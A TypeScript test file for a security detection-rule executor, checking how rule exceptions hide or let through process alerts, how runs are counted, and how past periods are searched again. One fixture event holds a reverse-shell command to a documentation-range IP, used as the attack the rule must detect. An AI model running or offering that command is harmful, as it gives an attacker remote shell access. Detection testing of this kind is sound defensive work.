import { expect, it } from 'vitest';
import { NO_EVIDENCE } from '../doubles/no_evidence';
import type { SourceEvent } from '../../common/event/source_event';
import type { RuleException } from '../../common/exception/exception';
import { toShippedParams, type RuleParams } from '../../common/rule/rule_params';
import { extendedRule } from '../../common/rule/extended_rule';
import { addPending } from '../../common/run/add_pending';
import { createExecutor } from '../../server/rule_type/executor';
import type { RuleState } from '../../server/rule_type/rule_state';
import { createEqlEventReader } from '../doubles/eql_event_reader';
import { createMemoryAdapters } from '../doubles/memory_adapters';
import { createRuleRun } from '../doubles/rule_run';

const at = (minute: number): string => new Date(Date.UTC(2026, 10, 24, 12, minute)).toISOString();

const toEvent = (id: string, minute: number, args: readonly string[]): SourceEvent => ({
  index: 'logs-endpoint.events.process-default',
  id,
  source: {
    '@timestamp': at(minute),
    event: { category: ['process'], type: ['start'], action: 'exec' },
    host: { id: 'h', name: 'web-01', os: { type: 'linux' } },
    user: { id: '33', name: 'www-data' },
    process: {
      entity_id: id,
      name: 'sh',
      executable: '/usr/bin/sh',
      args,
      command_line: args.join(' '),
      parent: { entity_id: 'fpm', name: 'php-fpm8.2', executable: '/usr/sbin/php-fpm8.2' },
    },
  },
});

const toException = (query: string, part: Partial<RuleException> = {}): RuleException => ({
  id: 'work',
  query,
  comment: '',
  at: at(0),
  ...part,
});

/** A rule that is run minute by minute, each run with the state of the one before. */
const createRule = (events: readonly SourceEvent[]) => {
  const memory = createMemoryAdapters([]);
  const { reader } = createEqlEventReader(events);
  const adapters = { ...memory.adapters, createEventReader: () => reader };
  const execute = createExecutor(adapters, NO_EVIDENCE, 'en', () => new Date(at(59)));
  let state: RuleState = {};
  return {
    runs: memory.runs,
    async runAt(minute: number, params: Partial<RuleParams>) {
      const { run } = createRuleRun({ startedAt: at(minute), state, params });
      ({ state } = await execute(run));
      const raised = memory.reported.map(({ payload }) => payload['kibana.alert.ancestors.id']);
      memory.storeReported();
      return raised;
    },
  };
};

const toCurl = (id: string, minute: number) => toEvent(id, minute, ['sh', '-c', 'curl', 'x']);
const CURL = toException('process where process.args == "curl"');

it('raises no alert of what an exception takes, and all others', async () => {
  const rule = createRule([toCurl('a', 3), toEvent('b', 4, ['sh', '-c', 'id'])]);
  expect(await rule.runAt(5, { exceptions: [CURL] })).toEqual(['b']);
});

it('leaves the room of a run to what is not hidden', async () => {
  const noise = Array.from({ length: 30 }, (_, number) => toCurl(`n${number}`, 2));
  const rule = createRule([...noise, toEvent('b', 4, ['sh', '-c', 'id'])]);
  expect(await rule.runAt(5, { exceptions: [CURL], maxAlertsPerRun: 1 })).toEqual(['b']);
});

it('counts what each has hidden, once, however often it is found', async () => {
  const rule = createRule([toCurl('a', 3), toCurl('b', 4), toCurl('c', 7)]);
  const exceptions = [CURL, toException('any where false', { id: 'idle' })];
  await rule.runAt(5, { exceptions });
  await rule.runAt(8, { exceptions });
  const { hidden, runs } = await rule.runs.get('rule-1');
  expect(hidden).toEqual({ work: { count: 3, lastAt: at(8) } });
  expect(runs.map((run) => run.hidden)).toEqual([1, 2]);
});

it('raises what was hidden once the exception is gone, for as long as runs find it', async () => {
  const rule = createRule([toCurl('a', 3)]);
  expect(await rule.runAt(5, { exceptions: [CURL] })).toEqual([]);
  expect(await rule.runAt(8, {})).toEqual(['a']);
  expect((await rule.runs.get('rule-1')).hidden).toEqual({});
});

it('asks an exception of a tree’s root, and lets through what is graver than it was made for', async () => {
  const params = toShippedParams(extendedRule);
  const attack = toEvent('a', 4, ['sh', '-c', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1']);
  const raise = async (exception?: Partial<RuleException>) =>
    createRule([attack]).runAt(5, {
      ...params,
      ...(exception && {
        exceptions: [toException('process where process.name == "sh"', exception)],
      }),
    });
  expect(await raise()).toEqual(['a']);
  expect(await raise({})).toEqual([]);
  expect(await raise({ upToRisk: 60 })).toEqual(['a']);
  expect(await raise({ upToRisk: 100 })).toEqual([]);
});

it('searches a period again that somebody asked for, once, and says what it found', async () => {
  const old = toEvent('old', -120, ['sh', '-c', 'id']);
  const rule = createRule([old]);
  expect(await rule.runAt(5, {})).toEqual([]);
  const period = { from: at(-150), to: at(-90), by: 'ann', at: at(6) };
  await rule.runs.change('rule-1', (history) => addPending(history, period) ?? history);
  expect(await rule.runAt(10, {})).toEqual(['old']);
  const { pending, runs } = await rule.runs.get('rule-1');
  expect(pending).toEqual([]);
  expect(runs[0]).toMatchObject({
    outcome: 'succeeded',
    newAlerts: 1,
    matches: 1,
    searched: { from: at(-150), to: at(10) },
  });
});

it('keeps a failed run with its sentence, and what it was asked for by hand', async () => {
  const memory = createMemoryAdapters([]);
  const createEventReader = () => ({ search: () => Promise.reject(new Error('no shards')) });
  const execute = createExecutor(
    { ...memory.adapters, createEventReader },
    NO_EVIDENCE,
    'en',
    () => new Date()
  );
  const period = { from: at(-150), to: at(-90), by: 'ann', at: at(6) };
  await memory.runs.change('rule-1', (history) => addPending(history, period) ?? history);
  await expect(execute(createRuleRun({ startedAt: at(5) }).run)).rejects.toThrow('no shards');
  const { runs, pending } = await memory.runs.get('rule-1');
  expect(runs).toMatchObject([{ outcome: 'failed', messages: ['no shards'] }]);
  expect(pending).toEqual([period]);
});

it('finds attacks although the history of runs can’t be kept', async () => {
  const memory = createMemoryAdapters([toEvent('a', 4, ['sh', '-c', 'id'])]);
  const broken = () => Promise.reject(new Error('read-only'));
  const getRunStore = () => ({ get: broken, change: broken });
  const execute = createExecutor(
    { ...memory.adapters, getRunStore },
    NO_EVIDENCE,
    'en',
    () => new Date()
  );
  await execute(createRuleRun({ startedAt: at(5) }).run);
  expect(memory.reported).toHaveLength(1);
});
